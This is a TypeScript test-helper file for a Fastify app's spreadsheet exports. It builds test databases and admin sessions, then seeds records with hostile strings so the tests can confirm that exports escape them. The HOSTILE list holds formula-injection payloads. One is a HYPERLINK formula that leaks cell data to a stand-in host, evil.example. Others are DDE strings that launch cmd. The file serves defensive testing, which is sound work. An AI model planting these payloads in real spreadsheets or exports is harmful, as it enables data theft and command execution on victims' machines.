import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { eq, sql } from 'drizzle-orm'
import ExcelJS from 'exceljs'
import type { FastifyInstance, LightMyRequestResponse } from 'fastify'
import { buildServer } from '../../api/app.ts'
import { loadConfig } from '../../api/config.ts'
import { exportSchedules } from '../../api/db/schema/exports.ts'
import { ADMIN, testDatabaseUrl } from '../helpers/app.ts'

export const onServer = Boolean(process.env.TEST_DATABASE_URL)

export async function tempDir(prefix = 'tally-exports-') {
  return mkdtemp(join(tmpdir(), prefix))
}

/**
 * One database for several app instances: a database of its own on the server (TEST_DATABASE_URL),
 * or a PGlite folder, which instances can only open one after another.
 */
export async function sharedDatabase(): Promise<{ env: Record<string, string>; drop: () => Promise<void> }> {
  if (onServer) {
    const db = await testDatabaseUrl()
    return { env: { DATABASE_URL: db.url! }, drop: db.drop }
  }
  const dir = await tempDir('tally-pglite-')
  return { env: { DATA_DIR: dir }, drop: () => rm(dir, { recursive: true, force: true }) }
}

export interface Instance {
  app: FastifyInstance
  cookie: string
  inject: (opts: {
    method?: string
    url: string
    payload?: unknown
    cookie?: string | null
  }) => Promise<LightMyRequestResponse>
}

/** An app on a given database (env from sharedDatabase()), signed in as the admin. */
export async function instance(env: Record<string, string>): Promise<Instance> {
  const app = await buildServer(
    loadConfig({
      DATA_DIR: 'memory://',
      SAMPLE_DATA: 'off',
      LOG_LEVEL: 'silent',
      ADMIN_EMAIL: ADMIN.email,
      ADMIN_PASSWORD: ADMIN.password,
      SCHEDULER: 'off',
      ...env,
    }),
    // Opening a PGlite folder on a busy machine can take longer than Fastify's 10 s default.
    { pluginTimeout: 120_000 },
  )
  const res = await app.inject({ method: 'POST', url: '/api/auth/login', payload: ADMIN })
  const cookie = `tally_session=${res.cookies.find((c) => c.name === 'tally_session')?.value}`
  return {
    app,
    cookie,
    inject: ({ method = 'GET', url, payload, cookie: c }) =>
      app.inject({
        method: method as 'GET',
        url,
        payload: payload as object,
        headers: c === null ? {} : { cookie: c ?? cookie },
      }),
  }
}

/** Lets a schedule's slots count from 2020 on, so tests can drive it through fixed past dates. */
export async function activeSince(
  app: FastifyInstance,
  scheduleId: number,
  at = new Date('2020-01-01T00:00:00Z'),
) {
  await app.db.update(exportSchedules).set({ activeSince: at }).where(eq(exportSchedules.id, scheduleId))
}

export async function runsOf(app: FastifyInstance, scheduleId: number) {
  return app.database.rows<{
    id: number
    slot: Date | string
    trigger: string
    status: string
    attempts: number
    error: string | null
    file_path: string | null
    next_attempt_at: Date | string
    finished_at: Date | string | null
  }>(sql`select * from export_runs where schedule_id = ${scheduleId} order by slot, id`)
}

/**
 * A slot a few seconds from now (whole seconds) and a yearly cron, with seconds, that names it: the
 * scheduler's next tick (every 15 s) runs it as a scheduled run, in a server started for real.
 */
export function slotSoon(ms = 5000): { slot: Date; cron: string } {
  const slot = new Date(Date.now() + ms)
  slot.setUTCMilliseconds(0)
  const cron = `${slot.getUTCSeconds()} ${slot.getUTCMinutes()} ${slot.getUTCHours()} ${slot.getUTCDate()} ${slot.getUTCMonth() + 1} *`
  return { slot, cron }
}

export const iso = (d: Date | string | null) => (d === null ? null : new Date(d).toISOString())

// Strings a spreadsheet would run as formulas, one per kind of trigger.
export const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  "=cmd|' /C notepad'!'A1'",
]

/**
 * Articles with real figures (a toll that grows and is then revised down, so changes are positive and
 * negative), then every text that comes from outside replaced by a hostile string.
 */
export async function seedHostile(t: Instance) {
  const articles = [
    ['2019-06-13', 'more than 360'],
    ['2019-08-20', 'more than 860'],
    ['2019-09-02', 'more than 800'],
  ]
  for (const [published, figure] of articles) {
    const res = await t.inject({
      method: 'POST',
      url: '/api/articles',
      payload: {
        title: `Idlib ${published}`,
        url: `https://news.example/idlib-${published}`,
        outlet: 'Example News',
        published,
        text: `Government forces have killed ${figure} civilians in Idlib since late April, according to the Syrian Observatory for Human Rights.`,
      },
    })
    if (res.statusCode !== 201 && res.statusCode !== 200) throw new Error(`ingest failed: ${res.body}`)
  }
  const manual = await t.inject({
    method: 'POST',
    url: '/api/claims',
    payload: {
      metric: 'killed',
      low: 7,
      qualifier: 'exact',
      quote: 'seven killed',
      citation: 'x',
      as_of: '2019-09-03',
    },
  })
  if (manual.statusCode !== 201) throw new Error(`manual claim failed: ${manual.body}`)
  const h = (i: number) => HOSTILE[i % HOSTILE.length]
  const { db } = t.app
  await db.execute(sql`update claims set who = ${h(0)}, source = ${h(1)}, location = ${h(2)}, quote = ${h(3)} || id, context = ${h(7)},
    citation = case when article_id is null then ${h(4)} else citation end, country = '=1+'`)
  await db.execute(sql`update outlets set name = ${h(5)}`)
  await db.execute(sql`update articles set url = ${h(6)} || id, title = ${h(7)}`)
  await db.execute(sql`update sources set name = ${h(1)} || id`)
  await db.execute(sql`update topics set group_label = ${h(0)}, place_name = ${h(2)}, country = '@1+'`)
  await db.execute(sql`update series set title = ${h(3)}`)
}

export async function readXlsx(body: Buffer) {
  const wb = new ExcelJS.Workbook()
  await wb.xlsx.load(body as unknown as ArrayBuffer)
  return wb
}

/** A cell's value with an inline string's runs joined: string, number, boolean, Date or null. */
export function plain(cell: ExcelJS.Cell): string | number | boolean | Date | null {
  const v = cell.value
  if (v === null || v === undefined) return null
  if (typeof v === 'object' && 'richText' in v) return v.richText.map((r) => r.text).join('')
  return v as string | number | boolean | Date
}
